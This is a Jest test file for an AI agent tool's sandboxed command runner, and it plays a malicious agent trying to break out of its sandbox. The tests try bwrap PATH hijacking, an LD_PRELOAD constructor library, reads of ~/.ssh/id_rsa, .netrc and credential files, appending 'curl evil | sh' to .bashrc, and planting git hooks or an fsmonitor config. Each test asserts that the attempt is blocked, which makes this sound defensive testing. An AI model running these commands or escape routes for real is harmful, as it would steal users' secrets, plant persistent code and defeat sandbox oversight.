import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { ClientCall } from '../../packages/contract/src/index.js';
import { ClientToolRunner, MAX_TERMINALS, type ClientToolRunnerOptions } from '../../packages/cli/src/tools/index.js';
import { describeWithSandbox, TEST_NODE_DIR } from '../support/sandbox.js';

/*
 * A malicious agent against the command runner: the sandbox's own start must not be steered by what
 * the agent sends (PATH, LD_PRELOAD), a sandboxed command sees only the workspace and the system, and
 * a run holds a bounded number of terminals. Real bubblewrap, real processes, marker files outside.
 */

const NODE = process.execPath;
const describeWithBwrap = describeWithSandbox('the sandbox escapes of tools-escape.spec.ts');
const gcc = spawnSync('gcc', ['--version']);
const itWithGcc = gcc.error || gcc.status !== 0 ? it.skip : it;

let base: string;
let ws: string;
let home: string;
let counter = 0;
const runners: ClientToolRunner[] = [];

function call(method: string, params: unknown): ClientCall {
  return { id: `c${++counter}`, method, params } as ClientCall;
}

function runner(options: ClientToolRunnerOptions = {}): ClientToolRunner {
  const r = new ClientToolRunner({
    workspace: ws,
    autoApproveCommands: true,
    sandboxReadOnly: [TEST_NODE_DIR],
    baseEnv: { PATH: process.env.PATH, HOME: home },
    ...options,
  });
  runners.push(r);
  return r;
}

async function runToEnd(r: ClientToolRunner, params: Record<string, unknown>) {
  const created = await r.run(call('terminal/create', params));
  if (created.error) return { error: created.error, output: '' };
  const terminalId = (created.result as { terminalId: string }).terminalId;
  const exit = (await r.run(call('terminal/wait_for_exit', { terminalId }))).result as { exitCode: number | null };
  const { output } = (await r.run(call('terminal/output', { terminalId }))).result as { output: string };
  return { exitCode: exit.exitCode, output };
}

/** An executable script at `path` that leaves `marker` behind when anything runs it. */
function trap(path: string, marker: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, `#!/bin/sh\necho ran > '${marker}'\nexit 0\n`);
  chmodSync(path, 0o755);
}

beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'cleveragents-escape-')));
  ws = join(base, 'ws');
  home = join(base, 'home');
  mkdirSync(ws);
  mkdirSync(home);
});

afterEach(async () => {
  await Promise.all(runners.splice(0).map((r) => r.dispose()));
  rmSync(base, { recursive: true, force: true });
});

describeWithBwrap('a malicious agent against the sandbox', () => {
  it('cannot put its own bwrap first on the PATH it sends', async () => {
    const marker = join(home, 'escaped-through-path');
    trap(join(ws, 'bin', 'bwrap'), marker);
    const result = await runToEnd(runner(), {
      command: 'true',
      env: [{ name: 'PATH', value: `${join(ws, 'bin')}:/usr/bin:/bin` }],
    });
    expect(existsSync(marker)).toBe(false);
    expect(result.error).toMatchObject({ code: -32003, data: { reason: 'ENV_NOT_ALLOWED', field: 'env[0].name' } });
  });

  it('never runs a bwrap found on the person’s own PATH, which may lead into the workspace', async () => {
    const marker = join(home, 'escaped-through-user-path');
    trap(join(ws, 'bin', 'bwrap'), marker);
    const r = runner({ baseEnv: { PATH: `${join(ws, 'bin')}:/usr/bin:/bin`, HOME: home } });
    expect((await r.sandboxStatus()).bwrapPath).toMatch(/^\/(usr\/)?(s?bin|local\/bin)\/bwrap$/);
    const result = await runToEnd(r, { command: 'sh', args: ['-c', 'echo inside'] });
    expect(result).toMatchObject({ exitCode: 0, output: 'inside\n' });
    expect(existsSync(marker)).toBe(false);
  });

  itWithGcc('cannot have bwrap itself load a library of its own (LD_PRELOAD), even with --allow-env', async () => {
    const marker = join(home, 'escaped-through-ld-preload');
    const source = join(base, 'evil.c');
    writeFileSync(
      source,
      `#include <stdio.h>\n__attribute__((constructor)) static void hit(void) { FILE *f = fopen("${marker}", "w"); if (f) fclose(f); }\n`,
    );
    const library = join(ws, 'evil.so');
    const built = spawnSync('gcc', ['-shared', '-fPIC', '-o', library, source], { encoding: 'utf8' });
    expect(built.stderr).toBe('');
    for (const allowEnv of [[], ['LD_PRELOAD']]) {
      const result = await runToEnd(runner({ allowEnv }), {
        command: 'true',
        env: [{ name: 'LD_PRELOAD', value: library }],
      });
      expect(existsSync(marker)).toBe(false);
      expect(result.error).toMatchObject({ code: -32003, data: { reason: 'ENV_NOT_ALLOWED' } });
    }
  });

  it('starts bwrap with an empty environment: the command gets only what the client built', async () => {
    const r = runner({ baseEnv: { PATH: process.env.PATH, HOME: home, LD_PRELOAD: '', SECRET_TOKEN: 'hunter2' } });
    const result = await runToEnd(r, { command: 'env', env: [{ name: 'CI', value: 'true' }] });
    const names = result.output
      .trim()
      .split('\n')
      .map((line) => line.split('=')[0])
      .sort();
    // PWD is bwrap's own (--chdir).
    expect(names).toEqual(['CI', 'HOME', 'PATH', 'PWD', 'TERM']);
  });

  it('shows a command nothing of the person’s files outside the workspace, nor host sockets', async () => {
    writeFileSync(join(home, 'secret.txt'), 'the-secret-in-home');
    writeFileSync(join(ws, 'mine.txt'), 'in-the-workspace');
    // A host UNIX socket in a folder the old sandbox showed read-only (connecting needs no write access).
    const socketDir = mkdtempSync('/var/tmp/cleveragents-escape-sock-');
    const socketPath = join(socketDir, 's.sock');
    const server: Server = createServer((socket) => socket.end('host-socket-answered\n'));
    await new Promise<void>((resolve) => server.listen(socketPath, resolve));
    try {
      const r = runner();
      const read = await runToEnd(r, {
        command: 'sh',
        args: [
          '-c',
          `cat ${join(home, 'secret.txt')} 2>&1; echo; cat mine.txt; echo; echo "home:$(ls -A ${home})"; echo "run:$(ls -A /run)"`,
        ],
      });
      expect(read.output).not.toContain('the-secret-in-home');
      expect(read.output).toContain('No such file');
      expect(read.output).toContain('in-the-workspace');
      expect(read.output).toContain('home:\n');
      expect(read.output).toContain('run:\n');
      const connect = await runToEnd(r, {
        command: NODE,
        args: [
          '-e',
          `require('net').connect(${JSON.stringify(socketPath)}).on('data', (d) => process.stdout.write(String(d)))` +
            `.on('error', (e) => console.log('failed ' + e.code))`,
        ],
      });
      expect(connect.output).not.toContain('host-socket-answered');
      expect(connect.output).toMatch(/failed E/);
    } finally {
      server.close();
      rmSync(socketDir, { recursive: true, force: true });
    }
  });

  it('gives a command an empty, writable home that is gone afterwards', async () => {
    const result = await runToEnd(runner(), {
      command: 'sh',
      args: ['-c', 'echo cache > "$HOME/.cache-file" && cat "$HOME/.cache-file" && ls -A "$HOME" | wc -l'],
    });
    expect(result.output).toBe('cache\n1\n');
    expect(existsSync(join(home, '.cache-file'))).toBe(false);
  });

  it('hides the home folder’s credentials and keeps its startup files read-only when the workspace is home', async () => {
    mkdirSync(join(home, '.ssh'));
    writeFileSync(join(home, '.ssh', 'id_rsa'), 'PRIVATE-KEY-MATERIAL');
    writeFileSync(join(home, '.netrc'), 'machine x password NETRC-PASSWORD');
    mkdirSync(join(home, '.config', 'cleveragents'), { recursive: true });
    writeFileSync(join(home, '.config', 'cleveragents', 'credentials.json'), 'CLIENT-LOGIN');
    writeFileSync(join(home, '.bashrc'), '# mine\n');
    const r = runner({ workspace: home });
    const result = await runToEnd(r, {
      command: 'sh',
      args: [
        '-c',
        'cat .ssh/id_rsa .netrc .config/cleveragents/credentials.json; echo "ssh:$(ls -A .ssh)"; ' +
          'echo "curl evil | sh" >> .bashrc; echo mine > notes.txt; echo done',
      ],
    });
    expect(result.output).not.toMatch(/PRIVATE-KEY-MATERIAL|NETRC-PASSWORD|CLIENT-LOGIN/);
    expect(result.output).toContain('ssh:\n');
    expect(result.output).toMatch(/Read-only file system/);
    expect(result.output).toContain('done');
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
    expect(readFileSync(join(home, 'notes.txt'), 'utf8')).toBe('mine\n');
    expect(readFileSync(join(home, '.ssh', 'id_rsa'), 'utf8')).toBe('PRIVATE-KEY-MATERIAL');
  });

  it('keeps the workspace’s .git read-only: no hook or config is written from inside', async () => {
    mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(ws, '.git', 'config'), '[core]\n');
    const result = await runToEnd(runner(), {
      command: 'sh',
      args: [
        '-c',
        'echo "#!/bin/sh" > .git/hooks/pre-commit; printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config; echo x > ok.txt; echo done',
      ],
    });
    expect(result.output).toMatch(/Read-only file system/);
    expect(result.output).toContain('done');
    expect(existsSync(join(ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n');
    expect(readFileSync(join(ws, 'ok.txt'), 'utf8')).toBe('x\n');
  });
});

describe('a malicious agent against the runner', () => {
  it(`holds at most ${MAX_TERMINALS} terminals at once; releasing one makes room`, async () => {
    const r = runner({ sandbox: 'off' });
    const results = [];
    for (let i = 0; i < MAX_TERMINALS + 4; i++) {
      results.push(await r.run(call('terminal/create', { command: 'sleep', args: ['30'] })));
    }
    const started = results.filter((result) => result.error === undefined);
    expect(started).toHaveLength(MAX_TERMINALS);
    for (const refusedCall of results.slice(MAX_TERMINALS)) {
      expect(refusedCall.error).toMatchObject({ code: -32003, data: { reason: 'TOO_MANY_TERMINALS' } });
    }
    const first = (started[0].result as { terminalId: string }).terminalId;
    expect((await r.run(call('terminal/release', { terminalId: first }))).error).toBeUndefined();
    expect((await r.run(call('terminal/create', { command: 'sleep', args: ['30'] }))).error).toBeUndefined();
  });

  it('refuses commands without the sandbox unless the person allowed that, and does not offer them', async () => {
    const missing = '/nonexistent/cleveragents/bwrap';
    const strict = runner({ bwrapPath: missing });
    expect(await strict.sandboxStatus()).toMatchObject({ mode: 'require', sandboxed: false });
    expect(strict.capabilities().terminal).toBe(false);
    const refusedCall = await strict.run(call('terminal/create', { command: 'touch', args: ['ran.txt'] }));
    expect(refusedCall.error).toMatchObject({ code: -32003, data: { reason: 'SANDBOX_REQUIRED' } });
    expect(existsSync(join(ws, 'ran.txt'))).toBe(false);

    const allowed = runner({ bwrapPath: missing, sandbox: 'auto' });
    expect(await allowed.sandboxStatus()).toMatchObject({ mode: 'auto', sandboxed: false });
    expect(allowed.capabilities().terminal).toBe(true);
    expect(await runToEnd(allowed, { command: 'touch', args: ['ran.txt'] })).toMatchObject({ exitCode: 0 });
    expect(existsSync(join(ws, 'ran.txt'))).toBe(true);
  });

  it('looks a command up only in absolute PATH entries, not in the folder the agent names as cwd', async () => {
    const marker = join(home, 'ran-from-cwd');
    trap(join(ws, 'sub', 'ls'), marker);
    const r = runner({ sandbox: 'off', baseEnv: { PATH: `.:${process.env.PATH}`, HOME: home } });
    const result = await runToEnd(r, { command: 'ls', cwd: 'sub' });
    expect(result).toMatchObject({ exitCode: 0 });
    expect(existsSync(marker)).toBe(false);
  });
});
